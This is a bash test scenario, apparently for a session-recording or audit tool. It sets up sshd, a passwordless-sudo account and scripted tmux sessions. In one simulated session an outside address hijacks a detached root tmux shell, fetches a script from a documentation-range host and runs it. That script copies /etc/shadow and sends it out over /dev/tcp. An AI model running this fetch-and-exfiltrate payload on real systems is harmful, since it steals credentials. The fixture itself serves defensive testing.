# shellcheck shell=bash disable=SC2034
HOST=adm11
FORMAT=ENRICHED
UNSET=1

# typed TEXT...: each a line, after a second and a half; ^D is what detaches from tmux.
typed() {
    local line
    for line in "$@"; do
        sleep 1.5
        if [[ $line == ^D ]]; then printf '\002d'; else printf '%s\r' "$line"; fi
    done
    sleep 1.5
}

# sits ADDRESS ACCOUNT TEXT...: somebody logs in with a terminal and types.
sits() { typed "${@:3}" | TERM=xterm outside ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b "$1" -i "$work/$2.key" "$2@10.88.0.10" >>"$work/typed" 2>&1; }

scenario() {
    local name
    mkdir -p /srv/data /run/sshd /run/sudo "$work/theirs"
    fresh /var/lib/sudo
    mount -t tmpfs -o mode=700 recorded /root
    cp /usr/share/base-files/dot.bashrc /root/.bashrc
    cp /usr/share/base-files/dot.profile /root/.profile
    rm -rf /tmp/tmux-40??
    seq 300 | sed 's/^/row /' >/srv/data/rows.csv
    account ops 4051
    account dev 4052
    cp /srv/data/rows.csv /srv/home/dev/rows
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for name in ops dev; do
        ssh-keygen -q -t ed25519 -N "" -f "$work/$name.key"
        install -m 600 -o "$name" "$work/$name.key.pub" "/srv/home/$name/.ssh/authorized_keys"
        touch "/srv/home/$name/.hushlogin"
    done
    echo "ops ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/ops
    chmod 440 /etc/sudoers.d/ops
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'cp /etc/shadow /root/.s' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /root/.s >&3' >"$work/theirs/k"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 1
    sits 10.88.0.55 ops "tmux new -s work" "sudo -i" "ls /srv/data" "wc -l /srv/data/rows.csv" "^D" "exit"
    sits 192.0.2.7 dev "tmux new -s mine" "sort -r rows > sorted" "gzip sorted" "^D" "exit"
    sits 198.51.100.23 ops "tmux ls" "tmux attach -t work" "curl -s -o /root/.k http://203.0.113.9:443/k" "bash /root/.k" "^D" "exit"
    sits 10.88.0.55 ops "tmux attach -t work" "uptime" "^D" "exit"
    rm -rf /tmp/tmux-40??
}
